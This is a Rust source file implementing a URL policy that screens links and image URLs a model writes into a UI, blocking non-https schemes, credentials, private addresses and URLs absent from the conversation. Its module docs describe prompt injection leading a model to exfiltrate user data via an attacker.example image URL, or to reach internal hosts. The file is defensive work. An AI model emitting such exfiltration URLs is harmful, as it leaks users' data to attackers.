//! The URL and media policy: where a URL a model wrote into a UI may point.
//!
//! A renderer fetches an image's URL without a click, and a person follows a link they
//! trust the UI for. A model that read a poisoned tool result or web page can write
//! `https://attacker.example/p.png?d=<the user's data>`, or point a renderer at a service on
//! the user's own network. So every URL a reply's A2UI holds (see the pipeline's `urls` for
//! which strings those are) passes [`UrlPolicy::check`] before the message goes out:
//!
//! - the scheme is `https`, or `data:` for an image (`image/*`, not SVG) no larger than
//!   [`UrlPolicy::data_url_max`]; `http`, `javascript:`, `file:` and every other scheme are
//!   refused, and so is a relative URL (it would be resolved against the renderer's page);
//! - no user name or password (`https://good.example@evil.example/` reads as a host it is
//!   not);
//! - the host is not a loopback, private, link-local or otherwise non-public address, in any
//!   form a browser reads as one (`2130706433`, `0x7f.1`, `[::ffff:127.0.0.1]`,
//!   percent-encoded), with the same rules as the webhook guard (`address`); nor a name
//!   that only ever means an inside host (`localhost`, `*.localhost`, `*.local`,
//!   `*.internal`, `*.home.arpa`, a name with no dot);
//! - with the provenance rule (on by default), the URL appeared, as written, in what the
//!   agent was given this conversation ([`crate::request::Provenance`]), unless its host is
//!   one the operator allowed ([`UrlPolicy::allow_host`]). An allowed host also skips the
//!   address check;
//! - a host name is resolved before the URL goes out (see the pipeline's `hosts`): any
//!   address it resolves to that is not public refuses it, and so does a name this server
//!   cannot resolve. Literal addresses and inside names are refused without a lookup, and a
//!   URL the other rules refuse is never looked up; an allowed host is not looked up either.
//!   A public-looking name must also have come from the conversation (or the allowlist),
//!   which is what stops a model from choosing it.
//!
//! Parsing follows the URL standard browsers implement (the `url` crate): tabs and newlines
//! inside, and spaces and control characters around, are dropped, schemes and hosts
//! lowercased, so what is checked is what a browser would fetch.

use std::fmt;

use url::{Host, Url};

use crate::address::classify;

/// The policy on URLs a model writes into a UI (see the module docs). The server applies
/// it to every A2UI message a reply sends, on every binding; a URL it refuses is handled as
/// an invalid message under [`OnInvalid`](super::OnInvalid).
///
/// # Example
///
/// ```
/// use a2ui_agent::pipeline::UrlPolicy;
///
/// let policy = UrlPolicy::default()
///     .allow_host("images.example.com")
///     .data_url_max(16 * 1024);
/// assert!(policy.provenance_required());
/// assert_eq!(policy.allowed_hosts(), ["images.example.com"]);
/// ```
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UrlPolicy {
    allow_hosts: Vec<String>,
    provenance: bool,
    data_url_max: usize,
}

impl Default for UrlPolicy {
    fn default() -> Self {
        Self {
            allow_hosts: Vec::new(),
            provenance: true,
            data_url_max: DEFAULT_DATA_URL_MAX,
        }
    }
}

/// The largest `data:` image URL taken by default, in bytes.
pub const DEFAULT_DATA_URL_MAX: usize = 64 * 1024;

impl UrlPolicy {
    /// The policy with `host` allowed: its URLs pass without having appeared in the
    /// conversation, and skip the address check. Lowercase; a trailing dot is ignored.
    #[must_use]
    pub fn allow_host(mut self, host: impl Into<String>) -> Self {
        let host = host.into().trim_end_matches('.').to_ascii_lowercase();
        if !self.allow_hosts.contains(&host) {
            self.allow_hosts.push(host);
        }
        self
    }

    /// The policy with the provenance rule on (the default) or off: off, any `https` URL to
    /// a public host passes, even one the model made up.
    #[must_use]
    pub fn provenance(mut self, on: bool) -> Self {
        self.provenance = on;
        self
    }

    /// The policy taking `data:` image URLs of at most `bytes` bytes (0: none).
    #[must_use]
    pub fn data_url_max(mut self, bytes: usize) -> Self {
        self.data_url_max = bytes;
        self
    }

    /// The hosts allowed.
    pub fn allowed_hosts(&self) -> &[String] {
        &self.allow_hosts
    }

    /// Whether a URL must have appeared in the conversation.
    pub fn provenance_required(&self) -> bool {
        self.provenance
    }

    /// Checks `raw`, used as `what`, against the policy; `given` says whether a URL
    /// appeared in what the agent was given. Without resolving its host (see [`Self::screen`]).
    #[cfg(test)]
    pub(crate) fn check(
        &self,
        raw: &str,
        what: Use,
        given: impl FnOnce(&str) -> bool,
    ) -> Result<(), UrlRefusal> {
        self.screen(raw, what, given).map(drop)
    }

    /// Checks `raw`, used as `what`, against every rule but the host's resolution: the host
    /// name still to resolve (lowercase, no trailing dot), if it passed as a name; `given`
    /// says whether a URL appeared in what the agent was given.
    pub(crate) fn screen(
        &self,
        raw: &str,
        what: Use,
        given: impl FnOnce(&str) -> bool,
    ) -> Result<Option<String>, UrlRefusal> {
        let url = Url::parse(raw).map_err(|_| UrlRefusal::NotAbsolute)?;
        match url.scheme() {
            "https" => {}
            "data" => return self.data(&url, raw, what).map(|()| None),
            "http" => return Err(UrlRefusal::PlainHttp),
            other => return Err(UrlRefusal::Scheme(scheme_shown(other))),
        }
        if !url.username().is_empty() || url.password().is_some() {
            return Err(UrlRefusal::Credentials);
        }
        let (host, name) = match url.host() {
            Some(Host::Domain(name)) => (name.trim_end_matches('.').to_owned(), true),
            Some(Host::Ipv4(ip)) => (self.address(ip.into())?, false),
            Some(Host::Ipv6(ip)) => (self.address(ip.into())?, false),
            None => return Err(UrlRefusal::NotAbsolute),
        };
        if self.allows(&host) {
            return Ok(None);
        }
        if let Some(why) = inside_name(&host) {
            return Err(UrlRefusal::InsideName(host, why));
        }
        if self.provenance && !given(raw.trim()) {
            return Err(UrlRefusal::NotGiven(host));
        }
        Ok(name.then_some(host))
    }

    fn allows(&self, host: &str) -> bool {
        self.allow_hosts.iter().any(|allowed| allowed == host)
    }

    /// The host `ip` as the allowlist and the provenance rule read it, or why it is refused.
    fn address(&self, ip: std::net::IpAddr) -> Result<String, UrlRefusal> {
        let host = ip.to_string();
        match classify(ip) {
            Some(class) if !self.allows(&host) => Err(UrlRefusal::Address(ip, class.describe())),
            _ => Ok(host),
        }
    }

    fn data(&self, url: &Url, raw: &str, what: Use) -> Result<(), UrlRefusal> {
        if what != Use::Media {
            return Err(UrlRefusal::DataNotMedia);
        }
        let media = url.path().split([';', ',']).next().unwrap_or_default();
        let media = media.trim().to_ascii_lowercase();
        if !media.starts_with("image/") || media.starts_with("image/svg") {
            return Err(UrlRefusal::DataNotImage);
        }
        if raw.len() > self.data_url_max {
            return Err(UrlRefusal::DataTooLarge {
                length: raw.len(),
                max: self.data_url_max,
            });
        }
        Ok(())
    }
}

impl fmt::Display for UrlPolicy {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "https (data: images up to {} bytes), provenance {}, allowed hosts: [{}]",
            self.data_url_max,
            if self.provenance { "on" } else { "off" },
            self.allow_hosts.join(", ")
        )
    }
}

/// What a URL is for, which decides whether a `data:` URL may stand in for it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Use {
    /// A component's media, or a data-model value one may bind: a `data:` image may do.
    Media,
    /// What an action opens, or a link in Markdown: a place a person goes.
    Open,
}

/// Why a URL is refused. Each reads as the end of a sentence about the URL, says what to do
/// instead, and shows no more of the URL than its scheme or host: a path or query may hold
/// the data an injected instruction tried to send.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub(crate) enum UrlRefusal {
    #[error("is not an absolute https URL; write the full https:// address")]
    NotAbsolute,
    #[error("uses http; only https URLs may be shown")]
    PlainHttp,
    #[error("uses the scheme {0}, which a UI may not open; only https URLs may be shown")]
    Scheme(String),
    #[error("holds a user name or password before its host; write the address without them")]
    Credentials,
    #[error("points at {0}, {1}; only public hosts may be shown")]
    Address(std::net::IpAddr, &'static str),
    #[error("points at {0}, {1}; only public hosts may be shown")]
    InsideName(String, &'static str),
    #[error("(host {0}) resolves to {1}; only public hosts may be shown")]
    ResolvesInside(String, &'static str),
    #[error("(host {0}) does not resolve to a public address: {1}; only public hosts may be shown")]
    Unresolved(String, &'static str),
    #[error(
        "(host {0}) did not appear in the conversation (the user's messages, tool results or \
         your instructions); use a URL exactly as it was given to you, or leave it out"
    )]
    NotGiven(String),
    #[error("is a data: URL, which only an image may be; link to an https URL instead")]
    DataNotMedia,
    #[error("is a data: URL of something other than an image (SVG included); use https")]
    DataNotImage,
    #[error("is a data: URL of {length} bytes; this server takes at most {max}")]
    DataTooLarge { length: usize, max: usize },
}

/// Why `host` (lowercase, no trailing dot) only ever names a host inside a network.
fn inside_name(host: &str) -> Option<&'static str> {
    const SUFFIXES: [&str; 6] = [
        ".localhost",
        ".local",
        ".internal",
        ".localdomain",
        ".home.arpa",
        ".lan",
    ];
    if host == "localhost" || SUFFIXES.iter().any(|suffix| host.ends_with(suffix)) {
        Some("a name for a host on the local machine or network")
    } else if !host.contains('.') {
        Some("a name without a domain, which only a local network resolves")
    } else {
        None
    }
}

/// A scheme as a refusal shows it: at most 20 characters.
fn scheme_shown(scheme: &str) -> String {
    scheme.chars().take(20).collect()
}

#[cfg(test)]
#[path = "url_policy_tests.rs"]
mod tests;
